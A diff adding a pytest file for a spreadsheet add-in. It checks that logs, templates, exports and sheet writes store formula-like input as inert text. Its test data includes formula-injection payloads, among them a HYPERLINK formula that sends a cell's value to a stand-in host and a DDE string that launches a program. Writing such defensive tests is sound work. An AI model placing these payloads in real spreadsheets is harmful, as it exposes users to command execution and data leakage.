@@ -1,0 +1,152 @@
+"""Text that a spreadsheet would take for a formula is written as text, by everything that writes (SPEC 7)."""
+
+from __future__ import annotations
+
+import csv
+import io
+from collections.abc import Callable
+from datetime import date
+from pathlib import Path
+from typing import Any
+
+import openpyxl
+import pytest
+import xlwings as xw
+
+from addin import sheet
+from addin.engine.closed_file import closed_file_engine, open_closed
+from addin.export import export_rows
+from workbook.columns import RELATIONSHIP, STATUS, TemplateChoice, template_headers
+from workbook.fix_sheet import lay_out_fixes
+from workbook.layout import FORMULA_SIGNS
+from workbook.lists import ListedProgram, ListedStaff, TemplateLists
+from workbook.log_sheet import log_csv, log_xlsx
+from workbook.macro_book import build_macro_template
+from workbook.marks import lay_out_marks
+from workbook.report import LogRow, Progress, Report, Upload
+from workbook.template import build_csv, build_filled, build_template
+
+TEXTS = (
+    "=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "＝1+1", "＋1", "－1", "＠SUM(A1)",
+    '=HYPERLINK("http://example.test?"&A1)', "=cmd|' /C calc'!A0",
+)  # fmt: skip
+
+HEADERS = ["Update or Insert", "Participant ID", "Case Number", "Program Name", "Caseworker Name", "Start Date"]
+Cells = list[tuple[Any, bool]]
+"""Each cell of what was written, and whether a spreadsheet will take it for text."""
+
+
+def of_csv(content: bytes) -> Cells:
+    lines = csv.reader(io.StringIO(content.decode("utf-8-sig")))
+    return [(cell, not cell.startswith(FORMULA_SIGNS)) for line in lines for cell in line]
+
+
+def of_workbook(content: bytes | Path) -> Cells:
+    book = openpyxl.load_workbook(io.BytesIO(content) if isinstance(content, bytes) else content)
+    return [
+        (cell.value, cell.data_type == "s" and (cell.number_format == "@" or bool(cell.quotePrefix)))
+        for page in book.worksheets
+        for line in page.iter_rows()
+        for cell in line
+        if isinstance(cell.value, str) and cell.value.startswith(FORMULA_SIGNS)
+    ]
+
+
+def upload(text: str) -> Upload:
+    return Upload(
+        id="u1", filename=text, state="complete", received=1, accepted=1, left_out=0,
+        progress=Progress(done=1, total=1), submitted_by=text, submitted_at="2026-03-04T05:06:07.000Z", reason=text,
+        finished_at=None,
+    )  # fmt: skip
+
+
+def log(text: str) -> list[LogRow]:
+    return [LogRow(row=2, action=text, result=text, record_id=1, message=text, before=text, after=text)]
+
+
+def lists(text: str) -> TemplateLists:
+    return TemplateLists(
+        site=text,
+        programs=[ListedProgram(text, text)],
+        staff=[ListedStaff(text, text, text)],
+        feeder={RELATIONSHIP: [text], STATUS: [text]},
+    )
+
+
+def exported(text: str, folder: Path, kind: str) -> bytes:
+    row = ["Insert", text, text, text, text, date(2026, 1, 2)]
+    return export_rows(HEADERS, {2: row}, folder, kind, "MDY").files[0].read_bytes()
+
+
+CHOICE = TemplateChoice()
+FILES: dict[str, Callable[[str, Path], Cells]] = {
+    "log .csv": lambda text, _: of_csv(log_csv(upload(text), log(text))),
+    "log .xlsx": lambda text, _: of_workbook(log_xlsx(upload(text), log(text))),
+    "template .csv": lambda text, _: of_csv(build_csv(CHOICE, lists(text))),
+    "template .xlsx": lambda text, _: of_workbook(build_template(CHOICE, lists(text))),
+    "template .xlsm": lambda text, _: of_workbook(build_macro_template(CHOICE, lists(text))),
+    "filled template": lambda text, _: of_workbook(
+        build_filled(CHOICE, lists(text), [[text] * len(template_headers(CHOICE, lists(text).demographics))])
+    ),
+    "export .csv": lambda text, folder: of_csv(exported(text, folder, "csv")),
+    "export .xlsx": lambda text, folder: of_workbook(exported(text, folder, "xlsx")),
+}
+
+
+@pytest.mark.parametrize("writer", FILES)
+def test_no_file_holds_a_text_that_a_spreadsheet_runs(writer: str, tmp_path: Path) -> None:
+    many = TEXTS if "csv" in writer or writer.startswith("log") else TEXTS[:4]
+    for number, text in enumerate(many):
+        cells = FILES[writer](text, tmp_path / str(number))
+        assert [cell for cell, harmless in cells if not harmless] == []
+        assert any(text.strip() in str(cell) for cell, _harmless in cells), "and it is there still"
+
+
+REPORT = {
+    "counts": {"rows": 1, "valid": 0, "errors": 1, "warnings": 0},
+    "preview": {"inserts": 0, "updates": 0, "enrollments_begun": 0, "enrollments_ended": 0, "caseloads": []},
+}
+
+
+def report(text: str) -> Report:
+    problem = {"row": 2, "column": "Case Number", "code": "unknown-value", "severity": "error", "value": text}
+    suggestion = {"value": text, "label": text, "score": 1.0}
+    group = {"column": "Case Number", "value": text, "code": "unknown-value", "count": 1, "rows": [2]}
+    return Report.model_validate(
+        REPORT | {"problems": [problem | {"message": text}], "fixes": [group | {"suggestions": [suggestion]}]}
+    )
+
+
+SHEETS: dict[str, Callable[[xw.Book, str], None]] = {
+    "cells": lambda book, text: sheet.write_cells(sheet.read_data(book), {(2, 3): text, (3, 4): text}),
+    "rows": lambda book, text: sheet.write_rows(sheet.read_data(book), {4: ["Insert", text, text, text, text, None]}),
+    "marks": lambda book, text: sheet.write_marks(
+        book, sheet.read_data(book), lay_out_marks(report(text), HEADERS, [2], first_row=2)
+    ),
+    "Fix Errors": lambda book, text: sheet.write_fix_sheet(book, lay_out_fixes(report(text))),
+    "Log": lambda book, text: sheet.write_log(book, upload(text), log(text)),
+    "Fixes Made": lambda book, text: sheet.add_fixes_made(book, [(text, 2, text, text, text)]),
+    "what the workbook knows": lambda book, text: sheet.write_meta(book, site=text),
+}
+
+
+def test_nothing_that_a_button_writes_into_a_workbook_is_a_formula(tmp_path: Path) -> None:
+    """In a workbook of the user's own, whose sheets the add-in makes itself: a cell is formatted as text first."""
+    path = tmp_path / "own.xlsx"
+    made = openpyxl.Workbook()
+    made.worksheets[0].append(HEADERS)
+    made.worksheets[0].append(["Insert", "P1"])
+    made.save(path)
+    engine = closed_file_engine()
+    try:
+        book = open_closed(path, engine)
+        for number, write in enumerate(SHEETS.values()):
+            write(book, TEXTS[number % 4])
+        book.save()
+    finally:
+        for app in list(engine.apps):
+            app.quit()
+        xw.engines.engines.remove(engine)
+    cells = of_workbook(path)
+    assert len(cells) > len(SHEETS)
+    assert [cell for cell, harmless in cells if not harmless] == []
